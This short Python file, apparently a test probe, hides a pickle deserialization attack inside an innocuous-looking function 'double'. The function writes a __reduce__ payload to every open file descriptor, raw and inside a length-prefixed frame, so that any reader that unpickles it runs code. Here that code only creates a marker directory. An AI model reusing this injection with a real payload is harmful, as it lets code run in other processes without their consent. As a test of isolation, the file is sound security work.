"""Sends pickles that run code where they are opened: it would leave a file beside this one."""

import contextlib
import os
import pickle
import struct


class Trap:
    def __reduce__(self):
        return os.mkdir, (__file__ + ".opened",)


def double(x):
    data = pickle.dumps(Trap())
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            os.write(descriptor, data)
            os.write(descriptor, struct.pack("<4sI", b"trk1", len(data)) + data)
    return x
